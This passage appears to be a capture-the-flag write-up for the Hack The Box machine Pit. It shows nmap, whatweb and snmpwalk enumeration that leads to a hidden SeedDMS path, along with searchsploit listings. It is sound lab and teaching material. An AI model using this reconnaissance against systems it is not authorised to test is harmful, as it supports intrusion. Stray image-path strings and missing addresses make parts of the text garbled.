12 minute read Leia também em :brazil: Share

Hello guys!

This week’s machine will be Pit, another medium-rated Linux box from Hack The Box, created by polarbearer and GibParadox.

:information_source: Info: Write-ups for Hack The Box machines are posted as soon as they’re retired.


This box was pretty different from the others as required some UDP enumeration, not often necessary but always useful when you’re at a dead-end :smile:. SNMP was key to enumerating and privesc this box, which had greater complexity once had SELinux enabled and didn’t allow an interactive shell until we get valid credentials to the system, connect via SSH and escalate privileges.


As usual, started by running a nmap quick scan to see which services are currently published

$ nmap -sC -sV -Pn -oA quick
Host discovery disabled (-Pn). All addresses will be marked 'up' and scan times will be slower.                                 Starting Nmap 7.91 ( https://nmap.org ) at 2021-08-10 12:15 -03
Nmap scan report for
Host is up (0.12s latency).
Not shown: 997 filtered ports
22/tcp   open  ssh             OpenSSH8.0 (protocol 2.0)
| ssh-hostkey:
|   3072 6f:c3:40:8f:69:50:69:5a:57:d7:9c:4e:7b:1b:94:96 (RSA)
|   256 c2:6f:f8:ab:a1:20:83:d1:60:ab:cf:63:2d:c8:65:b7 (ECDSA)
|_  256 6b:65:6c:a6:92:e5:cc:76:17:5a:2f:9a:e7:50:c3:50 (ED25519)
80/tcp   open  http            nginx 1.14.1
|_http-server-header: nginx/1.14.1
|_http-title: Test Page for the Nginx HTTP Server on Red Hat Enterprise Linux
9090/tcp open  ssl/zeus-admin?
| fingerprint-strings:
|   GetRequest, HTTPOptions:
|     HTTP/1.1 400 Bad request
|     Content-Type: text/html; charset=utf8
|     Transfer-Encoding: chunked
|     X-DNS-Prefetch-Control: off
|     Referrer-Policy: no-referrer
|     X-Content-Type-Options: nosniff
|     Cross-Origin-Resource-Policy: same-origin
|     <!DOCTYPE html>
|     <html>
|     <head>|     <title>
|     request
|     </title>
|     <meta http-equiv="Content-Type" content="text/html; charset=utf-8">
|     <meta name="viewport" content="width=device-width, initial-scale=1.0">
|     <style>
|     body {
|     margin: 0;
|     font-family: "RedHatDisplay", "Open Sans", Helvetica, Arial, sans-serif;
|     font-size: 12px;
|     line-height: 1.66666667;
|     color: #333333;
|     background-color: #f5f5f5;
|     border: 0;
|     vertical-align: middle;
|     font-weight: 300;
|_    margin: 0 0 10p
| ssl-cert: Subject: commonName=dms-pit.htb/organizationName=4cd9329523184b0ea52ba0d20a1a6f92/countryName=US
| Subject Alternative Name: DNS:dms-pit.htb, DNS:localhost, IP Address:
| Not valid before: 2020-04-16T23:29:12
|_Not valid after:  2030-06-04T16:09:12
|_ssl-date: TLS randomness does not represent time
1 service unrecognized despite returning data. If you know the service/version, please submit the following fingerprint at https://nmap.org/cgi-bin/submit.cgi?new-service :

Service detection performed. Please report any incorrect results athttps://nmap.org/submit/ .
Nmap done: 1 IP address (1 host up) scanned in 213.97 seconds

Based on the information seen in the scan, noticed that the SSL certificate for this machine is dms-pit.htb, which was later added to the local hosts file.

80/TCP and 9090/TCP - HTTP Services

Accessing the pages, we can see, for the default nginx page while the displays a Cockpit Project — Cockpit Project (cockpit-project.org) Login Page.

HTB Pit - Cockpit login page

Cockpit is a web-based administration interface for Linux Servers and, as the box’s name is part of the name of this solution, we might be on the right path :smile: .

Checking for vulnerabilities for this product, I have found an SSRF vulnerability in version 234 in searchsploit that we may be able to use once it doesn’t require any valid credentials.

$ searchsploit cockpit
--- ---
 Exploit Title                                                        |  Path
--- ---
Cockpit CMS 0.4.4 < 0.5.5 - Server-Side Request Forgery               | php/webapps/44567.txt
Cockpit CMS 0.6.1 - Remote Code Execution                             | php/webapps/49390.txt
Cockpit Version 234 - Server-Side Request Forgery (Unauthenticated)   | multiple/webapps/49397.txt
openITCOCKPIT 3.6.1-2 - Cross-Site Request Forgery                    | php/webapps/47305.py
--- ---
Shellcodes: No Results

$ head $(locate  multiple/webapps/49397.txt)
# Exploit Title: Cockpit Version 234 - Server-Side Request Forgery (Unauthenticated)
# Date: 08.01.2021
# Exploit Author: Metin Yunus Kandemir
# Vendor Homepage: https://cockpit-project.org/
# Version: v234
# Tested on: Ubuntu 18.04

import argparse
importrequests

Reading about this vulnerability on this Github page we can use this to enumerate and access contents we might not be allowed from other hosts, which could be useful later but, at this moment, won’t help much.

Proceeding with the enumeration, now using whatweb to speed things a little, I have created a simple bash script to loop to each host and port available, giving us some idea of what we might have published in this system

declare -a hosts=("" "pit.htb" "dms-pit.htb");
declare -a ports=("80" "9090");

for host in "${hosts[@]}"; do
        for port in "${ports[@]}"; do
                whatweb --color=never -a 3 "$host:$port" >> whatweb_enum.txt

Inspecting the results, found something interesting: when we call the domain dms-pit.htb we get a 403 Forbidden response, the ideal scenario to leverage the SSRF vuln in Cockpit, if present :smile:

http://dms-pit.htb/ [403 Forbidden] Country[RESERVED][ZZ], HTTPServer[nginx/1.14.1], IP[], Title[403 Forbidden], nginx[1.14.1]

Making some tests based on the PoC Seen, noticed that the “Connect to” field mentioned isn’t available. Also, checking the PoC videos, noticed that the version we’re running is updated and no longer vulnerable, also confirmed issuing some requests to /cockpit and don’t succeeding :disappointed:.

Based on that, started to enumerate again, both running a nmap scan for all TCP ports andquick UDP scan as well, to check if we’re missing something here. Also started a gobuster enumeration on to check for any published website on it.

After some time waiting, gobuster unfortunately resulted in nothing, as well as TCP for all ports, not showing anything different than we already saw in the quick scan. Surprisingly the UDP scan displayed listed two open ports, as results below:

$ sudo nmap -sU -sV -vv -oA quick_udp
Starting Nmap 7.91 ( https://nmap.org ) at 2021-08-10 13:53 -03
NSE: Loaded 45 scripts for scanning.
Initiating Ping Scan at 13:53
Scanning [4 ports]
Completed Ping Scan at 13:53, 0.10s elapsed (1 total hosts)
Initiating UDP Scan at 13:53
Increasing send delay for from 800 to 1000 due to 37 out of 121 dropped probes since last increase.
Warning: giving up on port because retransmission cap hit (10).
Nmap scan report for dms-pit.htb (
Host is up, received echo-reply ttl 63 (0.16s latency).
Scanned at 2021-08-10 13:53:34 -03 for 1081s
Not shown: 998 filtered ports
Reason: 979 admin-prohibiteds and 19 host-unreaches
161/udp   open          snmp    udp-response SNMPv1 server; net-snmp SNMPv3 server (public)
20762/udp open|filtered unknown no-response
Service Info: Host: pit.htb

Read data files from: /usr/bin/../share/nmap
Service detection performed. Please report any incorrect results at https://nmap.org/submit/ .161/UDP - SNMP Service

Starting with the SNMP Service, ran snmp-check and obtained some information from the system and running processes but with a simple run couldn’t obtain much information that could lead us further like passwords, secrets, etc.


Using another tool, snmpwalk, as recommended in this page, noticed that this tool can enumerate identifiers and specific OIDs (Object Identifiers) but, with the provided information not much data was also retrieved, allowing us to enumerate the accounts in the system, among other information (as well as the processes previously listed.)

NET-SNMP-EXTEND-MIB::nsExtendOutputFull."monitoring" = STRING: Memory usage
              total        used        free      shared  buff/cache   available
Mem:          3.8Gi       345Mi       3.1Gi       8.0Mi       452Mi       3.2Gi
Swap:         1.9Gi          0B       1.9Gi
Database status
OK - Connection to database successful.
System release info
CentOS Linux release 8.3.2011
SELinux Settings

                Labeling   MLS/       MLS/
SELinux User    Prefix     MCS Level  MCS Range                      SELinux Roles

guest_u         user       s0         s0                             guest_r
root            user       s0         s0-s0:c0.c1023                 staff_r sysadm_r system_r unconfined_r
staff_u         user       s0         s0-s0:c0.c1023                 staff_r sysadm_r unconfined_r
sysadm_u        user       s0         s0-s0:c0.c1023                 sysadm_r
system_u        user       s0         s0-s0:c0.c1023                 system_r unconfined_r
unconfined_u    user       s0         s0-s0:c0.c1023                 system_runconfined_r
user_u          user       s0         s0                             user_r
xguest_u        user       s0         s0                             xguest_r

Login Name           SELinux User         MLS/MCS Range        Service

__default__          unconfined_u         s0-s0:c0.c1023       *
michelle             user_u               s0                   *
root                 unconfined_u         s0-s0:c0.c1023       *
System uptime
 13:33:08 up 37 min,  0 users,  load average: 0.19, 0.10, 0.18

Searching for other opportunities to enumerate SNMP devices, came across this page SNMP:Comandos – snmpwalk – LRodrigo – Web Site (lncc.br) talking aboutsome commands also using snmpwalk. The interesting here is that if you specify the OID until certain point, it lists all information about it, as SNMP works like a tree like the image below, extracted from Wikimedia.org:

HTB Pit - SNMP Tree - source: wikimedia.org

Once the root (in red on the image) doesn’t change, decided to run snmpwalk once again, but specifying from where I wanted to inspect, which was right from the root (.1) and then filtered the empty values, using the command below”

snmpwalk -v 1 -c public  .1 | grep -v -e "\"\"$"Things got interesting when reviewing the output where, right after the process’s lists, an OID . was displaying some nginx information, previously unseen based on previous enumerations, one of them mentioning the path /var/www/html/seeddms51x/seeddms

iso. = INTEGER: 1
iso. = STRING: "nginx"
iso. = INTEGER: 1
iso. = INTEGER: 0
iso. = INTEGER: 3
iso. = INTEGER: 0
iso. = INTEGER: 0
iso. = INTEGER: 1
iso. = INTEGER: 2
iso. = STRING: "/"
iso. = STRING: "/var/www/html/seeddms51x/seeddms"iso. = STRING: "/dev/mapper/cl-root"
iso. = STRING: "/dev/mapper/cl-seeddms"
iso. = INTEGER: 10000
iso. = INTEGER: 100000
iso. = INTEGER: -1
iso. = INTEGER: -1
iso. = INTEGER: 2611200
iso. = INTEGER: 125600
iso. = INTEGER: 374736

Switched back to browser and navigated to all domains appending the path we have found, and the SeedDMS portal was accessible via http://dms-pit.htb/seeddms51x/seeddms as we can see below

HTB Pit - SeedDMS

Initial access

Giving a quick check in searchsploit found some existing exploits for this app but all of them requires us to be authenticated to work.

$ searchsploit seeddms
--- ---
 Exploit Title                                                        |  Path
--- ---
Seeddms 5.1.10 - Remote Command Execution (RCE) (Authenticated)| php/webapps/50062.py
SeedDMS 5.1.18 - Persistent Cross-Site Scripting                      | php/webapps/48324.txt
SeedDMS < 5.1.11 - 'out.GroupMgr.php' Cross-Site Scripting            | php/webapps/47024.txt
SeedDMS < 5.1.11 - 'out.UsrMgr.php' Cross-Site Scripting              | php/webapps/47023.txt
